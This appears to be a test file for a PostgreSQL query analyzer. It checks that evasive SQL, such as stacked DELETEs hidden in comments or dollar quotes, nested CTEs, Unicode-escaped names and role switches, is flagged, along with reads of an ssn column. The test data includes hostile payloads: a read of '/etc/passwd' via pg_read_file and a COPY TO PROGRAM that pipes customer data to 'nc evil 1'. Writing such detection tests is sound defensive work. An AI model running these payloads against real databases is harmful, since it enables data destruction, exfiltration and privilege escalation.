// Ways past a reader of SQL that worked on another product, and their relatives. Each must show what really runs.
import { beforeAll, describe, expect, test } from 'vitest'
import { loadParser } from '../../../src/analysis/postgres/analyze.ts'
import { accessesText, factsOf, statementOf } from './case.ts'

beforeAll(loadParser)

/** Text, and what must be among its accesses. */
const HIDDEN_EFFECTS: readonly (readonly [sql: string, access: string])[] = [
  ['SELECT 1 AS a$x$; DELETE FROM customers; SELECT 1 AS b$x$', 'delete customers'],
  ['SELECT 1 -- x\r; DELETE FROM customers', 'delete customers'],
  ['SELECT 1 /* /* nested */ */; DELETE FROM customers', 'delete customers'],
  ['SELECT 1; ; ; DELETE FROM customers;', 'delete customers'],
  ["SELECT E'\\'' ; DELETE FROM customers; --'", 'delete customers'],
  ["SELECT $a$ $b$ $a$; DELETE FROM customers; --$b$'", 'delete customers'],
  ['WITH x AS MATERIALIZED (DELETE FROM customers RETURNING *) SELECT count(*) FROM x', 'delete customers'],
  ['WITH a AS (WITH b AS (DELETE FROM customers RETURNING 1) SELECT * FROM b) SELECT 1', 'delete customers'],
  ['SELECT * FROM (WITH b AS (SELECT 1) SELECT * FROM b, secrets) s', 'read secrets'],
  ['EXPLAIN ANALYSE DELETE FROM customers', 'delete customers'],
  ['EXPLAIN (ANALYSE) DELETE FROM customers', 'delete customers'],
  ['EXPLAIN (ANALYZE false, ANALYZE) DELETE FROM customers', 'delete customers'],
  ['EXPLAIN (ANALYZE 1) DELETE FROM customers', 'delete customers'],
  ['DO $$BEGIN DELETE FROM customers; END$$', 'do plpgsql'],
  ["CREATE FUNCTION purge() RETURNS void LANGUAGE sql AS 'DELETE FROM customers'", 'create function purge'],
  ['SELECT purge()', 'call function purge'],
  ['SELECT * FROM purge()', 'call function purge'],
  ['SELECT "public.safe"()', 'unknown it calls code whose name holds a dot'],
  ['CREATE TYPE r AS RANGE (subtype = int4, subtype_diff = purge)', 'call function purge'],
  ['SELECT setseed(a) FROM t', 'setting seed'],
  [`SELECT nextval('${'a'.repeat(64)}')`, 'call function pg_catalog.nextval'],
  [
    'CREATE FUNCTION public.json_scalar(int) RETURNS int LANGUAGE sql AS $$x$$',
    'alter function pg_catalog.json_scalar',
  ],
  ['CREATE OR REPLACE VIEW v AS SELECT 1', 'alter view v'],
  ['SELECT 1 ORDER BY purge()', 'call function purge'],
  ["SELECT ('/etc/passwd'::text).pg_read_file", 'server-file function pg_catalog.pg_read_file'],
  ["SELECT ('select ssn::tsvector from customers'::text).ts_stat", 'do function pg_catalog.ts_stat'],
  ["SELECT s.purge FROM lower('x') s", 'call function purge'],
  ["SELECT lower.purge FROM lower('x')", 'call function purge'],
  ['SELECT purge.purge FROM generate_series(1, 2) purge(x)', 'call function purge'],
  ["SELECT purge.purge FROM jsonb_array_elements('[1]') purge", 'call function purge'],
  ['SELECT purge.purge FROM f() purge', 'call function purge'],
  ["SELECT (s.*).purge FROM lower('x') s", 'call function purge'],
  ["SELECT anything.purge FROM CAST('x' AS text)", 'call function purge'],
  ["UPDATE t SET a = s.purge FROM ROWS FROM (lower('x')) s", 'call function purge'],
  ['SELECT (t.id).purge FROM t', 'call function purge'],
  ['SELECT ($1).purge', 'call function purge'],
  ['SELECT (a[1]).purge FROM t', 'call function purge'],
  ['SELECT a[1].purge FROM t', 'call function purge'],
  ["SELECT (jsonb_array_elements('[]')).value", 'call function value'],
  [
    "WITH i AS (SELECT 'x' AS k) SELECT (i.k).key FROM i, (SELECT json_each('{}') AS k) j",
    'call function key',
  ],
  ["SELECT ('q'::regclass).nextval", 'update sequence q'],
  ['SELECT count(*) OVER (ORDER BY purge())', 'call function purge'],
  ['INSERT INTO t VALUES (purge())', 'call function purge'],
  ['VALUES (purge())', 'call function purge'],
  ['SELECT * FROM ROWS FROM (purge(), generate_series(1, 2))', 'call function purge'],
  ['DELETE FROM U&"\\0063ustomers"', 'delete customers'],
  ['DELETE FROM U&"!0063ustomers" UESCAPE \'!\'', 'delete customers'],
  ['DELETE FROM CUSTOMERS', 'delete customers'],
  ['DELETE FROM "customers"', 'delete customers'],
  ['DELETE FROM ONLY (customers)', 'delete customers'],
  ['PREPARE p AS DELETE FROM customers', 'delete customers'],
  ["SELECT query_to_xml('select * from customers', true, true, '')", 'do function pg_catalog.query_to_xml'],
  ['COPY (DELETE FROM customers RETURNING *) TO STDOUT', 'delete customers'],
  ["COPY customers TO PROGRAM 'nc evil 1'", 'server-program nc evil 1'],
  ['CREATE RULE r AS ON SELECT TO v DO INSTEAD SELECT * FROM secrets', 'read secrets'],
  ['CREATE TABLE t AS WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x', 'delete customers'],
  ["SELECT set_config('search_path', 'evil', true)", 'setting search_path'],
  ["SELECT set_config('standard_conforming_strings', 'off', false)", 'setting standard_conforming_strings'],
  ["SELECT set_config('role', $1, false)", 'role role *'],
  ["SELECT set_config('role', (SELECT 'admin'), false)", 'role role *'],
  ["SELECT set_config('Session_Authorization', 'admin', false)", 'role session_authorization admin'],
  ['SET SESSION standard_conforming_strings TO off', 'setting standard_conforming_strings'],
  ['SELECT a OPERATOR(public.=) b FROM t', 'call operator public.='],
  ['SELECT a = ANY (SELECT b FROM secrets) FROM t', 'read secrets'],
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = purge()', 'call function purge'],
  ['WITH customers AS (SELECT 1) DELETE FROM customers', 'delete customers'],
  ['WITH customers AS (SELECT 1) SELECT * FROM public.customers', 'read public.customers'],
  ['SELECT (WITH customers AS (SELECT 1) SELECT 1) FROM customers', 'read customers'],
  ['TRUNCATE orders CASCADE', 'truncate *.*'],
  ['DROP SCHEMA app CASCADE', 'drop *.*'],
  [
    'CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS $$x$$',
    'alter function pg_catalog.lower',
  ],
]

describe('an effect shows however it is wrapped', () => {
  test.each(HIDDEN_EFFECTS)('%s', (sql, access) => {
    const all = factsOf(sql).statements.map(accessesText).join(', ')
    expect(all.split(', ')).toContain(access)
  })
})

test('text in a string, a comment or a dollar quote has no effect', () => {
  for (const sql of [
    "SELECT '; DELETE FROM customers; '",
    'SELECT 1 /* ; DELETE FROM customers; */',
    'SELECT 1 -- ; DELETE FROM customers',
    'SELECT $x$; DELETE FROM customers; $x$',
    `SELECT 1 AS "; DELETE FROM customers"`,
  ]) {
    expect(accessesText(statementOf(sql))).toBe('session SELECT')
  }
})

/** Text, and a column name that must show. */
const HIDDEN_COLUMNS: readonly (readonly [sql: string, column: string])[] = [
  ['SELECT ssn AS s FROM customers', 'ssn'],
  ["SELECT ssn || '' FROM customers", 'ssn'],
  ['SELECT c.ssn FROM customers c', 'ssn'],
  ['SELECT public.customers.ssn FROM customers', 'ssn'],
  ['SELECT (c).ssn FROM customers c', 'ssn'],
  ['SELECT (SELECT c).ssn FROM customers c', '*'],
  ['SELECT U&"\\0073sn" FROM customers', 'ssn'],
  ['SELECT SSN FROM customers', 'ssn'],
  ['SELECT 1 FROM customers WHERE ssn = $1', 'ssn'],
  ['SELECT 1 FROM customers ORDER BY ssn', 'ssn'],
  ['SELECT 1 FROM customers GROUP BY ssn', 'ssn'],
  ['SELECT count(*) FILTER (WHERE ssn IS NULL) FROM customers', 'ssn'],
  ['SELECT 1 FROM customers JOIN other USING (ssn)', 'ssn'],
  ['SELECT reverse(ssn), encode(ssn::bytea, $$base64$$), substr(ssn, 1) FROM customers', 'ssn'],
  ['UPDATE customers SET a = 1 RETURNING ssn', 'ssn'],
  ['INSERT INTO customers (a) VALUES (1) ON CONFLICT (ssn) DO NOTHING', 'ssn'],
  ['COPY customers (ssn) TO STDOUT', 'ssn'],
  ['DELETE FROM customers WHERE ssn LIKE $$1%$$', 'ssn'],
  ['SELECT c.row_to_json FROM customers c', '*'],
  ['SELECT c.quote_literal FROM customers c', '*'],
  ['SELECT * FROM customers', '*'],
  ['SELECT c.* FROM customers c', '*'],
  ['TABLE customers', '*'],
  ['COPY customers TO STDOUT', '*'],
  ['SELECT row_to_json(c) FROM customers c', '*'],
  ['SELECT customers FROM customers', '*'],
  ['SELECT c::text FROM customers c', '*'],
  ['SELECT 1 FROM customers c WHERE c IS NOT NULL', '*'],
  ['UPDATE customers c SET a = 1 RETURNING c', '*'],
  ['SELECT b FROM customers AS c (a, b)', '*'],
  ['SELECT x FROM (customers JOIN other USING (id)) AS j (x)', '*'],
  ['SELECT 1 FROM customers NATURAL JOIN other', '*'],
  ['EXPLAIN SELECT 1 FROM customers WHERE ssn = 1', 'ssn'],
  ['PREPARE p AS SELECT ssn FROM customers', 'ssn'],
  ['DECLARE c CURSOR FOR SELECT ssn FROM customers', 'ssn'],
]

describe('a column shows however it is mentioned', () => {
  test.each(HIDDEN_COLUMNS)('%s', (sql, column) => {
    expect(statementOf(sql).columns.map((mention) => mention.column)).toContain(column)
  })
})
